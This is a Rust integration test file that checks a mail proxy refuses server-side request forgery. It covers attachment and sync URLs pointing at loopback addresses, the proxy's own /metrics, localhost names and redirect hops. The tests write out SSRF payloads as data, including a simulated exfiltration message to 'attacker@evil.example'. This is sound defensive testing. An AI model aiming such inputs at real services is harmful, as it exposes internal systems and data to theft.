//! Server-side request forgery (issue 15, item 3): a tenant sets its own `client_base_url` and
//! names attachment URLs, and the proxy mails the answers back. Loopback, private, CGNAT, ULA,
//! unspecified and link-local targets are refused — by literal and by name, on every redirect
//! hop, for `http_url` and `endpoint` attachments and for sync calls — unless the operator lists
//! the host (or its address range) in `GMP_ATTACHMENT_ALLOWED_HOSTS`. The proxy's own
//! `/metrics`, a tenant application and a file server on 127.0.0.1 stand in for internal
//! services.

#![allow(clippy::unwrap_used)]

mod common;

use common::{Api, Db, database, files::Files, sink::Sink, start, tenant_app::TenantApp, wait_for};
use mailproxy::config::Hosts;
use reqwest::StatusCode;
use serde_json::{Value, json};

fn hosts(list: &[&str]) -> Hosts {
    Hosts(list.iter().map(|h| h.to_string()).collect())
}

/// Registers `tenant` (SMTP to `sink`) with its own `client_base_url`, and queues one message
/// with one attachment `att` addressed to the attacker.
async fn mail_to_self(api: &Api, sink: &Sink, tenant: &str, base: &str, att: Value) {
    api.setup_tenant(tenant, sink.port).await;
    let (s, b) = api
        .post(
            "/tenant",
            json!({"id": tenant, "client_base_url": base, "client_attachment_path": "/attachments"}),
        )
        .await;
    assert_eq!(s, StatusCode::OK, "{b}");
    let m = json!({"id": "m1", "to": ["attacker@evil.example"], "subject": "loot",
        "attachments": [att]});
    let (s, b) = api
        .post(
            "/commands/add-messages",
            json!({"tenant_id": tenant, "messages": [m]}),
        )
        .await;
    assert_eq!(s, StatusCode::OK, "{b}");
}

/// The single message of `tenant` once it is `sent` or `error`.
async fn outcome(api: &Api, tenant: &str) -> Value {
    let list = || async {
        let path = format!("/messages/list?tenant_id={tenant}&include_history=true");
        api.get(&path)
            .await
            .1
            .as_array()
            .cloned()
            .unwrap_or_default()
    };
    let done = wait_for(15, || async {
        let r = list().await;
        r.len() == 1 && (r[0]["status"] == "sent" || r[0]["status"] == "error")
    })
    .await;
    let r = list().await;
    assert!(done, "{r:#?}");
    r[0].clone()
}

async fn internal_addresses_are_never_fetched(db: Db) {
    let (sink, tdb) = (Sink::start().await, database(db).await);
    let files = Files::start().await;
    files.put("doc", b"%PDF-1.4 internal".to_vec());
    let mut c = common::config(&tdb.url);
    c.max_retries = 0;
    c.attachment_allowed_hosts = Hosts::default();
    let server = start(c).await;
    let api = Api::new(&server);
    let me = format!("http://{}", server.addr);

    // The attack of the issue: the proxy's own /metrics, the tenant's "own" host.
    let att = json!({"filename": "m.txt", "storage_path": format!("{me}/metrics"), "fetch_mode": "http_url"});
    mail_to_self(&api, &sink, "evil", &me, att).await;
    let rec = outcome(&api, "evil").await;
    assert_eq!(
        (rec["status"].as_str(), rec["error"].as_str()),
        (
            Some("error"),
            Some("Attachment fetch failed for m.txt: Loopback address not allowed: 127.0.0.1")
        ),
        "{rec:#}"
    );
    // The tenant's own endpoint on a loopback address: refused before any request.
    let att = json!({"filename": "doc.pdf", "storage_path": "doc", "fetch_mode": "endpoint"});
    mail_to_self(&api, &sink, "ep", &files.base, att).await;
    let rec = outcome(&api, "ep").await;
    assert_eq!(
        rec["error"],
        "Attachment fetch failed for doc.pdf: Loopback address not allowed: 127.0.0.1"
    );
    assert!(files.calls().is_empty(), "{:?}", files.calls());
    assert_eq!(sink.count(), 0, "nothing internal was mailed");
    server.stop().await;
}

async fn any_host_does_not_open_loopback_names(db: Db) {
    let (sink, tdb) = (Sink::start().await, database(db).await);
    let files = Files::start().await;
    files.put("doc", b"%PDF-1.4 internal".to_vec());
    let port = files.base.rsplit(':').next().unwrap();
    let mut c = common::config(&tdb.url);
    c.max_retries = 0;
    // `*` lets a message name any host, but no host name opens an internal address.
    c.attachment_allowed_hosts = hosts(&["*"]);
    let server = start(c).await;
    let api = Api::new(&server);
    let url = format!("http://localhost:{port}/files/doc");
    let att = json!({"filename": "doc.pdf", "storage_path": url, "fetch_mode": "http_url"});
    mail_to_self(&api, &sink, "name", &files.base, att).await;
    let rec = outcome(&api, "name").await;
    assert_eq!(
        rec["error"],
        "Attachment fetch failed for doc.pdf: Loopback address not allowed: localhost"
    );
    assert!(files.calls().is_empty(), "{:?}", files.calls());
    server.stop().await;
}

async fn endpoint_redirects_are_host_checked(db: Db) {
    let (sink, tdb) = (Sink::start().await, database(db).await);
    let files = Files::start().await;
    files.put("doc", b"%PDF-1.4 moved".to_vec());
    let port = files.base.rsplit(':').next().unwrap();
    files.redirect("away", &format!("http://localhost:{port}/files/doc"));
    files.redirect("near", "/files/doc");
    let mut c = common::config(&tdb.url);
    c.max_retries = 0;
    // The tenant's application on 127.0.0.1 is allowed; `localhost` is another host.
    c.attachment_allowed_hosts = hosts(&["127.0.0.1"]);
    let server = start(c).await;
    let api = Api::new(&server);
    let att = json!({"filename": "doc.pdf", "storage_path": "away", "fetch_mode": "endpoint"});
    mail_to_self(&api, &sink, "hop", &files.base, att).await;
    let rec = outcome(&api, "hop").await;
    assert_eq!(
        rec["error"],
        "Attachment fetch failed for doc.pdf: Host not allowed: localhost"
    );
    assert!(
        files.calls_for("doc").is_empty(),
        "the hop was not followed"
    );
    // A redirect on the tenant's own host is followed.
    let att = json!({"filename": "doc.pdf", "storage_path": "near", "fetch_mode": "endpoint"});
    mail_to_self(&api, &sink, "near", &files.base, att).await;
    assert_eq!(outcome(&api, "near").await["status"], "sent");
    server.stop().await;
}

async fn sync_calls_to_internal_addresses_are_refused(db: Db) {
    let (app, sink, tdb) = (
        TenantApp::start().await,
        Sink::start().await,
        database(db).await,
    );
    let mut c = common::config(&tdb.url);
    c.attachment_allowed_hosts = Hosts::default();
    c.sync_interval = 1.0;
    let server = start(c).await;
    let api = Api::new(&server);
    api.setup_tenant("sync", sink.port).await;
    let (s, b) = api
        .post(
            "/tenant",
            json!({"id": "sync", "active": true, "client_base_url": app.url, "client_sync_path": "/sync"}),
        )
        .await;
    assert_eq!(s, StatusCode::OK, "{b}");
    api.post("/commands/run-now", json!({"tenant_id": "sync"}))
        .await;
    let refused = wait_for(15, || async {
        let m = api.get("/metrics").await.1;
        m.as_str().unwrap_or_default().lines().any(|l| {
            l.starts_with("gmp_sync_calls_total{")
                && l.contains("outcome=\"refused\"")
                && !l.ends_with(" 0")
        })
    })
    .await;
    let metrics = api.get("/metrics").await.1;
    let sync_lines: Vec<&str> = metrics
        .as_str()
        .unwrap_or_default()
        .lines()
        .filter(|l| l.starts_with("gmp_sync_calls_total"))
        .collect();
    assert!(refused, "the sync call was not refused: {sync_lines:?}");
    assert!(app.calls().is_empty(), "the tenant application was called");
    server.stop().await;
}

on_both_stores!(
    internal_addresses_are_never_fetched,
    any_host_does_not_open_loopback_names,
    endpoint_redirects_are_host_checked,
    sync_calls_to_internal_addresses_are_refused,
);
